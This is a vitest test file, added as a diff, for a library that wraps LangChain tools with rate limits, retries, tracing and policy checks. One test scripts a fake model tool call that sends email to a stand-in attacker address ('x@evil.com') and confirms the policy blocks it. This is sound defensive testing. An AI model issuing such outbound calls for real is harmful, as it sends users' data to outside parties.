@@ -1,0 +1,159 @@
+import { HumanMessage, type ToolMessage } from '@langchain/core/messages';
+import { fakeModel } from '@langchain/core/testing';
+import { StructuredTool, tool } from '@langchain/core/tools';
+import {
+  ConfigurationError,
+  createTracer,
+  parsePolicy,
+  RateLimitedError,
+  withTrace,
+} from '@tracewarden/core';
+import { beforeEach, describe, expect, it } from 'vitest';
+import { z } from 'zod';
+import { expectSoundTrace } from '../__fixtures__/trace-checks.js';
+import { aiMessage, ran, sendEmail, weather } from '../__fixtures__/weather-tools.js';
+import { TracewardenCallbackHandler } from '../handler/index.js';
+import { guardTool, guardTools } from './guard-tools.js';
+
+class Calculator extends StructuredTool {
+  name = 'calculator';
+  description = 'Adds two numbers';
+  schema = z.object({ a: z.number(), b: z.number() });
+  async _call({ a, b }: { a: number; b: number }): Promise<string> {
+    return String(a + b);
+  }
+}
+
+beforeEach(() => {
+  ran.length = 0;
+});
+
+function weatherCall(id: string) {
+  return { name: 'weather', args: { city: 'Paris' }, id, type: 'tool_call' as const };
+}
+
+describe('guardTool', () => {
+  it('keeps name, description, schema and behaviour', async () => {
+    const guarded = guardTool(weather);
+    expect(guarded.name).toBe('weather');
+    expect(guarded.description).toBe(weather.description);
+    expect(guarded.schema).toBe(weather.schema);
+    expect(guarded).toBeInstanceOf(StructuredTool);
+    expect(await guarded.invoke({ city: 'Rome' })).toBe('Sunny in Rome');
+    const message = (await guarded.invoke(weatherCall('call_w'))) as ToolMessage;
+    expect(message.content).toBe('Sunny in Paris');
+    expect(message.tool_call_id).toBe('call_w');
+  });
+
+  it('guards a StructuredTool subclass', async () => {
+    const guarded = guardTool(new Calculator());
+    expect(await guarded.invoke({ a: 2, b: 3 })).toBe('5');
+  });
+
+  it('answers a guard refusal with an error ToolMessage the model reads, or throws', async () => {
+    const limited = guardTool(weather, {
+      rateLimit: { callsPerMinute: 1, burst: 1, sharedKey: 'guard-tools-test-message' },
+    });
+    expect(((await limited.invoke(weatherCall('c1'))) as ToolMessage).status).toBe('success');
+    const refused = (await limited.invoke(weatherCall('c2'))) as ToolMessage;
+    expect(refused.status).toBe('error');
+    expect(refused.tool_call_id).toBe('c2');
+    expect(String(refused.content)).toMatch(/^Error: .*rate limit/i);
+    const throwing = guardTool(weather, {
+      rateLimit: { callsPerMinute: 1, burst: 1, sharedKey: 'guard-tools-test-throw' },
+      onGuardError: 'throw',
+    });
+    await throwing.invoke(weatherCall('c3'));
+    await expect(throwing.invoke(weatherCall('c4'))).rejects.toBeInstanceOf(RateLimitedError);
+    expect(ran).toEqual(['weather:Paris', 'weather:Paris']);
+  });
+
+  it("lets the tool's own errors through", async () => {
+    const failing = guardTool(
+      tool(
+        async () => {
+          throw new Error('boom');
+        },
+        { name: 'boom', description: 'fails', schema: z.object({}) },
+      ),
+    );
+    await expect(
+      failing.invoke({ name: 'boom', args: {}, id: 'b1', type: 'tool_call' }),
+    ).rejects.toThrow('boom');
+  });
+
+  it('records its TOOL_RESULT under the model TOOL_CALL with the guard decisions', async () => {
+    const tracer = createTracer();
+    const handler = new TracewardenCallbackHandler({ tracer, pricing: false });
+    const [guardedWeather] = guardTools([weather], { retry: { maxRetries: 1, initialDelay: 0 } });
+    const model = fakeModel().respond(
+      aiMessage({ content: '', tool_calls: [weatherCall('call_g')] }),
+    );
+    const answer = await model.invoke([new HumanMessage('Weather?')], { callbacks: [handler] });
+    await guardedWeather.invoke(answer.tool_calls![0]!, { callbacks: [handler] });
+    const blocks = expectSoundTrace(tracer);
+    expect(blocks.filter((block) => block.sub_type === 'TOOL_CALL')).toHaveLength(1);
+    const results = blocks.filter((block) => block.sub_type === 'TOOL_RESULT');
+    expect(results).toHaveLength(1);
+    expect(results[0]?.payload.call_id).toBe('call_g');
+    expect(results[0]?.metadata).toMatchObject({
+      status: 'success',
+      retry_count: 0,
+      guard: { attempts: [{ attempt: 1, outcome: 'success' }] },
+    });
+  });
+
+  it('answers a call the policy refused (refuse mode) without running it', async () => {
+    const tracer = createTracer();
+    const policy = parsePolicy(`
+raise "no mail" if:
+    (call: ToolCall)
+    call is tool:send_email
+`);
+    const handler = new TracewardenCallbackHandler({
+      tracer,
+      policy,
+      onPolicyViolation: 'refuse',
+      pricing: false,
+    });
+    const guardedMail = guardTool(sendEmail);
+    const model = fakeModel().respond(
+      aiMessage({
+        content: '',
+        tool_calls: [
+          {
+            name: 'send_email',
+            args: { to: 'x@evil.com', body: 'b' },
+            id: 'call_m',
+            type: 'tool_call',
+          },
+        ],
+      }),
+    );
+    const answer = await model.invoke([new HumanMessage('Mail')], { callbacks: [handler] });
+    // without the handler on the tool run, the guarded tool itself answers the refusal
+    const message = (await withTrace(tracer, () =>
+      guardedMail.invoke(answer.tool_calls![0]!),
+    )) as ToolMessage;
+    expect(message.status).toBe('error');
+    expect(String(message.content)).toContain('blocked by policy');
+    expect(ran).toEqual([]);
+    expectSoundTrace(tracer);
+  });
+
+  it('rejects what is not a tool, duplicate names and bad options with INVALID_OPTIONS', () => {
+    for (const attempt of [
+      () => guardTools([{ name: 'x' }] as never),
+      () => guardTools([weather, weather]),
+      () => guardTool(weather, { onGuardError: 'ignore' } as never),
+      () => guardTool(weather, { retri: {} } as never),
+    ]) {
+      expect(attempt).toThrow(ConfigurationError);
+      try {
+        attempt();
+      } catch (error) {
+        expect((error as ConfigurationError).code).toBe('INVALID_OPTIONS');
+      }
+    }
+  });
+});
